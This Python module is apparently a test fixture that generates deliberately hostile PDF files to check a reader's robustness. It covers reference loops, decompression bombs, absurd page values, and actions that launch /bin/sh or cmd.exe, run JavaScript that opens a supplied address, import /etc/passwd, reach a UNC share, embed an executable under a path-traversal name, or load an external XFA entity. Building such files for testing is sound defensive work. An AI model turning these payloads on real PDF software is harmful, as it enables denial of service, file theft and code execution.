"""Makes PDF files that mean harm: loops, bombs, actions, absurd numbers."""

from __future__ import annotations

import zlib
from collections.abc import Iterator

from tests.reliability.bad_files_made import Made

_PAGE = (
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> {} >>"
)
_FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_WORDS = b"BT /F 12 Tf 10 100 Td (The depot opens at nine in the morning.) Tj ET"
_ROOT = "<< /Type /Catalog /Pages 2 0 R {} >>"
_PAGES = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def made(away: str) -> Iterator[Made]:
    """Yield every PDF of this module, always the same; ``away`` is the web address that some want to be fetched."""
    for maker in (_loops, _bombs, _absurd):
        yield from maker()
    yield from _actions(away)


def pdf(*objects: str | bytes, trailer: str = "") -> bytes:
    """Return a PDF of ``objects``, numbered from 1, the first of which is its root; readers have to mend its table."""
    data = bytearray(b"%PDF-1.7\n")
    for number, item in enumerate(objects, 1):
        data += b"%d 0 obj\n%s\nendobj\n" % (number, item if isinstance(item, bytes) else item.encode())
    return bytes(data) + f"trailer << /Root 1 0 R /Size {len(objects) + 1} {trailer} >>\n%%EOF\n".encode()


def stream(content: bytes, entries: str = "") -> bytes:
    """Return a stream object."""
    return f"<< /Length {len(content)} {entries} >>\nstream\n".encode() + content + b"\nendstream"


def document(root: str = "", page: str = "", words: bytes = _WORDS, more: tuple[str | bytes, ...] = ()) -> bytes:
    """Return a PDF with one page that can be read, and something besides."""
    return pdf(_ROOT.format(root), _PAGES, _PAGE.format(page), stream(words), _FONT, *more)


def _loops() -> Iterator[Made]:
    loops = {
        "kids": pdf(_ROOT.format(""), "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >>"),
        "parents": pdf(_ROOT.format(""), "<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 3 0 R >>",
                       "<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>"),
        "root": pdf("<< /Type /Catalog /Pages 1 0 R >>"),
        "length": pdf(_ROOT.format(""), _PAGES, _PAGE.format(""), b"<< /Length 4 0 R >>\nstream\nx\nendstream"),
        "itself": pdf("1 0 R"),
        "outline": document("/Outlines 6 0 R", more=("<< /First 7 0 R /Last 7 0 R >>",
        "<< /Next 7 0 R /Title (a) >>")),
        "names": document("/Names << /Dests 6 0 R >>", more=("<< /Kids [6 0 R] >>",)),
        "fonts": document(words=_WORDS, page="/Annots [3 0 R]"),
        "objects": pdf(_ROOT.format(""), stream(b"2 0 3 5 << >> << >>",
        "/Type /ObjStm /N 2 /First 8 /Extends 2 0 R")),
        "previous": pdf(_ROOT.format(""), _PAGES, _PAGE.format(""), stream(_WORDS), _FONT,
        trailer="/Prev 9") + b"startxref\n9\n%%EOF",
    }  # fmt: skip
    for name, data in loops.items():
        yield "pdf loop", f"{name}.pdf", data
    for depth in (3, 12, 40):  # forms that draw the next one ten times
        forms = [
            stream(
                b"/X Do " * 10,
                f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X {n + 1} 0 R >> >>",
            )
            for n in range(6, 6 + depth)
        ]
        last = stream(_WORDS, "/Type /XObject /Subtype /Form /BBox [0 0 9 9]")
        drawn = "/Resources << /XObject << /X 6 0 R >> >>"
        page = f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R {drawn} >>"
        yield (
            "pdf loop",
            f"forms{depth}.pdf",
            pdf(_ROOT.format(""), _PAGES, page, stream(b"/X Do"), _FONT, *forms, last),
        )
    form = stream(b"/X Do", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>")
    yield "pdf loop", "form-itself.pdf", document(words=b"/X Do", more=(form,))


def _bombs() -> Iterator[Made]:
    packer = zlib.compressobj(9)
    half = b"".join([*(packer.compress(b"%" * 1_000_000) for _ in range(600)), packer.flush()])
    flate = "/Filter /FlateDecode"
    parts = (_ROOT.format(""), _PAGES, _PAGE.format(""))
    yield "pdf bomb", "flate.pdf", pdf(*parts, stream(half, flate), _FONT)
    twice = zlib.compress(half, 9)
    yield "pdf bomb", "twice.pdf", pdf(*parts, stream(twice, "/Filter [/FlateDecode /FlateDecode]"), _FONT)
    yield "pdf bomb", "filters.pdf", pdf(*parts, stream(b"x", f"/Filter [{'/ASCIIHexDecode ' * 50_000}]"), _FONT)
    yield (
        "pdf bomb",
        "predictor.pdf",
        pdf(*parts, stream(half, f"{flate} /DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 32 >>"), _FONT),
    )
    picture = "/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB"
    page = _PAGE.format("").replace("/Font", "/XObject << /X 6 0 R >> /Font")
    yield (
        "pdf bomb",
        "picture.pdf",
        pdf(parts[0], parts[1], page, stream(b"/X Do"), _FONT, stream(half, f"{picture} {flate}")),
    )
    yield "pdf bomb", "text.pdf", document(words=b"BT /F 12 Tf " + b"(words ) Tj " * 300_000 + b"ET")
    yield "pdf bomb", "states.pdf", document(words=b"q " * 1_000_000 + _WORDS)
    yield "pdf bomb", "arrays.pdf", document(words=b"[" * 1_000_000 + _WORDS)
    yield "pdf bomb", "brackets.pdf", pdf("[" * 1_000_000)
    yield "pdf bomb", "dictionaries.pdf", pdf("<< /A " * 200_000)


def _actions(away: str) -> Iterator[Made]:
    actions = {
        "script": f"<< /S /JavaScript /JS (app.launchURL('{away}')) >>",
        "launch": "<< /S /Launch /F (/bin/sh) >>",
        "windows": "<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>",
        "uri": f"<< /S /URI /URI ({away}) >>",
        "submit": f"<< /S /SubmitForm /F << /FS /URL /F ({away}) >> >>",
        "import": "<< /S /ImportData /F (/etc/passwd) >>",
        "remote": "<< /S /GoToR /F (\\\\\\\\127.0.0.1\\\\share\\\\a.pdf) /D [0 /Fit] >>",
    }
    for name, action in actions.items():
        yield "pdf action", f"{name}-open.pdf", document(f"/OpenAction {action}")
        link = f"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A {action} >>] /AA << /O {action} >>"
        yield "pdf action", f"{name}-page.pdf", document(page=link)
        yield "pdf action", f"{name}-names.pdf", document(f"/Names << /JavaScript << /Names [(a) {action}] >> >>")
    inside = stream(b"MZ a program", "/Type /EmbeddedFile")
    names = "/Names << /EmbeddedFiles << /Names [(../../a.exe) << /F (../../a.exe) /EF << /F 6 0 R >> >>] >> >>"
    yield "pdf action", "embedded.pdf", document(names, more=(inside,))
    yield (
        "pdf action",
        "xfa.pdf",
        document("/AcroForm << /XFA 6 0 R /Fields [] >>", more=(stream(f'<!DOCTYPE a SYSTEM "{away}">'.encode()),)),
    )
    external = f"<< /Length 0 /F << /FS /URL /F ({away}) >> >>\nstream\n\nendstream"
    yield "pdf action", "external.pdf", pdf(_ROOT.format(""), _PAGES, _PAGE.format(""), external, _FONT)


def _absurd() -> Iterator[Made]:
    for number, box in enumerate(
        ("0 0 1e9 1e9", "0 0 0 0", "0 0 -1 -1", "nan 0 1 1", "0 0 1e-9 1e9", "9 9", "1e999 0 1 1")
    ):
        page = _PAGE.format("").replace("0 0 200 200", box)
        yield "absurd pdf", f"box{number}.pdf", pdf(_ROOT.format(""), _PAGES, page, stream(_WORDS), _FONT)
    for number, count in enumerate((2**31 - 1, -1, 2**40, 0)):
        pages = f"<< /Type /Pages /Kids [3 0 R] /Count {count} >>"
        yield "absurd pdf", f"count{number}.pdf", pdf(_ROOT.format(""), pages, _PAGE.format(""), stream(_WORDS), _FONT)
    for number, place in enumerate((0, 5, 2**31, 2**63, -1)):
        yield "absurd pdf", f"table{number}.pdf", document() + b"startxref\n%d\n%%%%EOF" % place
    kids = " ".join(["3 0 R"] * 100_000)
    many = pdf(
        _ROOT.format(""), f"<< /Type /Pages /Kids [{kids}] /Count 100000 >>", _PAGE.format(""), stream(b" "), _FONT
    )
    yield "absurd pdf", "pages.pdf", many
    leaves = " ".join(f"{n} 0 R" for n in range(6, 20_006))
    each = [_PAGE.format("")] * 20_000
    yield (
        "absurd pdf",
        "pages-with-words.pdf",
        pdf(
            _ROOT.format(""), f"<< /Type /Pages /Kids [{leaves}] /Count 20000 >>", "null", stream(_WORDS), _FONT, *each
        ),
    )
    yield "absurd pdf", "rotated.pdf", document(page="/Rotate 2147483647")
    yield "absurd pdf", "unit.pdf", document(page="/UserUnit 1e30")
    yield (
        "absurd pdf",
        "locked.pdf",
        pdf(_ROOT.format(""), _PAGES, trailer="/Encrypt << /Filter /Standard /V 99 /R 99 /O () /U () /P -1 >>"),
    )
